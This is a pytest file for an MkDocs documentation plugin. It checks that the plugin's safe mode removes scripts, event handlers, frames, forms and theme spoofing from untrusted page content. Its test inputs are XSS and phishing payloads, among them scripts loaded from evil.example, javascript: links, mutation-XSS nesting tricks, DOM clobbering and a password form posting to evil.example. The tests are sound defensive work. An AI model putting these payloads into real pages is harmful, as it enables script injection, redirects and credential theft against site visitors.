"""`safe: true`: untrusted authors get text, components and harmless HTML, and nothing that runs or frames."""

from __future__ import annotations

from dataclasses import replace

import markdown
import pytest
from forbidden_html import FORBIDDEN, OPTIONS, PAYLOADS, intruders
from lxml import html as lxml_html

from mkdocs_docsjson.pages.components import COMPONENTS
from mkdocs_docsjson.pages.page_body import PageBody
from mkdocs_docsjson.pages.render import render_page

SAFE = replace(OPTIONS, safe=True)
WRITTEN = {
    "script": "<script>window.__pwned=1</script>text",
    "script in a component": "<Note>\n\n<script src=https://evil.example/x.js></script>text\n\n</Note>",
    "handler": '<div onclick="window.__pwned=1">text</div>',
    "handler in JSX": "<div onClick={() => alert(1)} style={{position: 'fixed'}}>text</div>",
    "spread": '<img {...{onError: "window.__pwned=1", src: "x"}} />text',
    "frame": '<iframe srcdoc="<script>1</script>"></iframe>text',
    "object": '<object data="https://evil.example/x.swf"><embed src=x></object>text',
    "style": "<style>body{display:none}</style>text",
    "base": '<base href="https://evil.example/">text',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">text',
    "form": '<form action="https://evil.example"><input name=password><button>Send</button></form>text',
    "address": '<a href="javascript:window.__pwned=1">text</a>',
    "image": '<img src="x" onerror="window.__pwned=1">text',
    "svg": '<svg><a xlink:href="javascript:1"><text>text</text></a><animate onbegin=1 /><use href="data:x#y" /></svg>text',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=1></style></mglyph></table></mtext></math>text",
    "inside out": "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\"></p></noscript>text",
    "overlay": '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">text</div>',
    "own id": '<p id="dj:data">text</p>',
    "parts of the theme": '<div class="dj-overlay x" data-copy-page="/evil.example">text</div>',
    "parts of the theme in JSX": '<div className={"dj-overlay"} {...{"data-copy-page": "/evil.example"}}>text</div>',
    "parts of the theme in a component": "<Card title='text' className='dj-overlay x'>text</Card>",
    "name of a member of the document": '<img name="currentScript" src="/x.png" alt="a">text',
    "exported": "export const x = <script>1</script>\n\ntext {x}",
    "details": '<details ontoggle="window.__pwned=1" open><summary>text</summary></details>',
}  # fmt: skip


def rendered(text: str, extensions: tuple[str, ...] = ()) -> PageBody:
    instance = markdown.Markdown(extensions=list(extensions)) if extensions else None
    return render_page(text, "page.mdx", SAFE, lambda _: None, markdown=instance)


@pytest.mark.parametrize("name", WRITTEN)
def test_nothing_that_runs_is_left(name: str) -> None:
    page = rendered(WRITTEN[name])
    assert not list(intruders(page))
    assert "text" in page.html
    for danger in ("position", "evil.example", "srcdoc", "javascript:", 'id="dj:data"', "dj-overlay", "currentScript"):
        assert danger not in page.html


@pytest.mark.parametrize("name", [name for name in WRITTEN if name in ("script", "handler", "frame", "style", "form")])
def test_what_is_left_out_is_reported(name: str) -> None:
    assert {problem.code for problem in rendered(WRITTEN[name]).problems} == {"unsafe-element"}


@pytest.mark.parametrize("payload", PAYLOADS.values())
def test_payloads_as_raw_html(payload: str) -> None:
    assert not list(intruders(rendered(f"before {payload} after\n\n{payload}\n\n<Card title='x'>{payload}</Card>\n")))


def test_blocks_of_other_extensions_are_cleaned_too() -> None:
    page = rendered('!!! note "T"\n    <script>1</script>\n\n    <p onclick="1">text</p>\n', ("admonition", "extra"))
    assert not list(intruders(page))
    assert "text" in page.html


@pytest.mark.parametrize("name", [name for name, each in COMPONENTS.items() if each.example])
def test_components_look_as_without_it(name: str) -> None:
    def shape(page: PageBody) -> list[tuple[str, dict[str, str]]]:
        body = page.with_links(page.html + page.side, lambda link: link.url)
        tree = lxml_html.fragment_fromstring(body, create_parent="div")
        return [(element.tag, dict(element.attrib)) for element in tree.iter() if isinstance(element.tag, str)]

    example = COMPONENTS[name].example
    page, plain = rendered(example), render_page(example, "page.mdx", OPTIONS, lambda _: None)
    if not any(problem.code == "unsafe-element" for problem in page.problems):
        assert shape(page) == shape(plain)
    assert FORBIDDEN.isdisjoint(tag for tag, _ in shape(page))
